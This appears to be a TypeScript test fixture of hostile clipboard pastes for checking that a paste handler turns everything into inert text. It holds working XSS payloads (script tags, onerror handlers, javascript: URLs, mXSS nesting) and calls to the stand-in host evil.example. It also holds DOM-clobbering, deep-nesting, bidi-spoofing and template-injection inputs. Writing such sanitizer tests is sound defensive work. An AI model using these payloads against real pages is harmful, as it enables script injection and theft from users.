/** Something on the clipboard that must do nothing but become text. `harmed` is what each tries to set. */
export interface HostilePaste {
  readonly name: string
  readonly plain: string
  readonly html: string
}

const harm = 'globalThis.harmed=true'
/** A list beside the trap makes sure that the HTML is read, and not the plain text. */
const rich = (name: string, html: string): HostilePaste => ({ name, plain: 'plain', html: `<ul><li>kept</li></ul>${html}` })
const plain = (name: string, text: string): HostilePaste => ({ name, plain: text, html: '' })

export const hostile: readonly HostilePaste[] = [
  rich('script', `<script>${harm}</script>`),
  rich('script in a list item', `<ul><li><script>${harm}</script>a</li></ul>`),
  rich('script from elsewhere', '<script src="https://evil.example/x.js"></script>'),
  rich('module', `<script type="module">${harm}</script>`),
  rich('image that fails', `<img src="x" onerror="${harm}">`),
  rich('image from elsewhere', '<img src="https://evil.example/p.gif">'),
  rich('image set', '<picture><source srcset="https://evil.example/1.webp"><img src="https://evil.example/2.png"></picture>'),
  rich('event handlers', `<p onmouseover="${harm}" onfocus="${harm}" tabindex="0" autofocus>a</p>`),
  rich('vector image', `<svg onload="${harm}"><script>${harm}</script><a href="javascript:${harm}"><text>a</text></a></svg>`),
  rich('mathematics', `<math><mtext><table><mglyph><style><img src=x onerror="${harm}"></style></mglyph></table></mtext></math>`),
  rich('frame', `<iframe src="javascript:${harm}"></iframe><iframe srcdoc="<script>parent.harmed=true</script>"></iframe>`),
  rich('object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">'),
  rich('link that runs', `<a href="javascript:${harm}">click</a>`),
  rich('style from elsewhere', '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"; body{display:none}</style>'),
  rich('style that hides the page', '<style>#page{display:none!important}</style>'),
  rich('picture in a style', '<p style="background:url(https://evil.example/b.png);position:fixed;inset:0">a</p>'),
  rich('base and refresh', `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`),
  rich('form', '<form action="https://evil.example/"><input name="n" value="v" autofocus><button>go</button></form>'),
  rich('template and slot', `<template><img src=x onerror="${harm}"></template><slot name="a"></slot>`),
  rich('fallback content', `<noscript><p title="</noscript><img src=x onerror=${harm}>"></noscript>`),
  rich('sound and film', '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>'),
  rich('office tags', `<o:p><![CDATA[<script>${harm}</script>]]></o:p><v:shape><v:imagedata src="file://evil/share/x.png"/></v:shape>`),
  rich('names that shadow', '<form id="settings"><input name="parentNode"></form><img name="getElementById"><a id="page"></a><a id="sheet"></a>'),
  rich('deep nesting', `${'<div>'.repeat(5000)}a${'</div>'.repeat(5000)}`),
  rich('nested tables and lists', '<table><tr><td><ul><li>'.repeat(300)),
  rich('many attributes', `<p ${Array.from({ length: 5000 }, (_, at) => `a${at}="x"`).join(' ')}>a</p>`),
  plain('markup as text', `<script>${harm}</script><img src=x onerror=${harm}>`),
  plain('template as text', '{{constructor.constructor("harmed=true")()}} ${harmed=true} __proto__[harmed]'),
  plain('right to left', '\u202Emoc.live\u202C \u2067abc\u2069 \u200Fשלום\u200E مرحبا'),
  plain('zero width', `M\u200Bi\u200Ca\u200D \uFEFFwas\u2060 seen${'\u200B'.repeat(2000)}`),
  plain('marks upon marks', `M${'\u0301\u0316'.repeat(3000)}ia`),
  plain('lone surrogates and controls', '\uD800a\uDC00b\u0000\u0001\u001B[31m\u007F\u0085\u2028\u2029'),
  plain('one endless word', 'a'.repeat(200_000)),
  plain('endless spaces', `${' '.repeat(100_000)}a`),
  plain('endless lines', '\n'.repeat(20_000)),
  plain('brackets and quotation marks', '[(“'.repeat(20_000)),
  plain('dates and dates', '31/02/24 '.repeat(5_000)),
]
